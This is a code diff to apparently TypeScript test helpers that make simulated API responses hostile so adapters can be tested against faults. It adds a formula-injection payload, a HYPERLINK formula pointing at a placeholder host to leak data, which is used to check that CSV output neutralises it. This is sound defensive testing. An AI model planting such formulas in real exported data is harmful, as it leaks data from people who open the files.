@@ -45,8 +45,14 @@ export const UNSAFE_INTEGER = 2 ** 53 + 2
 export const LARGE_VALUE = Math.floor(Number.MAX_SAFE_INTEGER / 60) + 1
 
 /**
+ * A dimension value a spreadsheet would run as a formula (a link that leaks data when clicked): a provider echoing
+ * what a customer typed as a domain or profile name can send it, and a CSV answer must neutralise it.
+ */
+export const FORMULA_VALUE = '=HYPERLINK("http://x.invalid/?leak","open")'
+
+/**
  * How one API's success body is made hostile in its own shape: a simulated action must say how (its records, its
- * usage fields), so every simulator, and so every adapter's contract, covers these faults. Returns the new body
+ * usage fields, its free-text dimension), so every simulator, and so every adapter's contract, covers these faults. Returns the new body
  * (or the same one, changed); a body with no record to change is returned as it is.
  */
 export type HostileBody = (body: Record<string, unknown>, fault: ShapeFaultKind) => Record<string, unknown>
@@ -54,10 +60,14 @@ export type HostileBody = (body: Record<string, unknown>, fault: ShapeFaultKind)
 /**
  * The usual way to apply a shape fault to the first record of a list: `records` finds the list in the body and
  * `field` names the usage field to remove or change. `asString` writes numbers as numeric strings, as the API does.
+ * `dimension` names the record's free-text field that becomes a dimension value, or is null when the API's records
+ * carry none (every dimension is then one the call asked for, or a code the adapter checks): that fault is then
+ * spent without effect.
  */
 export function hostileFirstRecord (
   records: (body: Record<string, unknown>) => Array<Record<string, unknown>> | undefined,
-  field: string
+  field: string,
+  dimension: string | null
 ): HostileBody {
   return (body, fault) => {
     const list = records(body)
@@ -79,7 +89,17 @@ export function hostileFirstRecord (
       case 'large-value':
         first[field] = write(Number(first[field]) + LARGE_VALUE)
         break
+      case 'formula-dimension':
+        if (dimension !== null) first[dimension] = FORMULA_VALUE
+        break
+      default:
+        return unhandled(fault)
     }
     return body
   }
+}
+
+/** A shape fault added to ShapeFaultKind without a case above fails to compile here. */
+function unhandled (fault: never): never {
+  throw new Error(`unhandled shape fault ${String(fault)}`)
 }
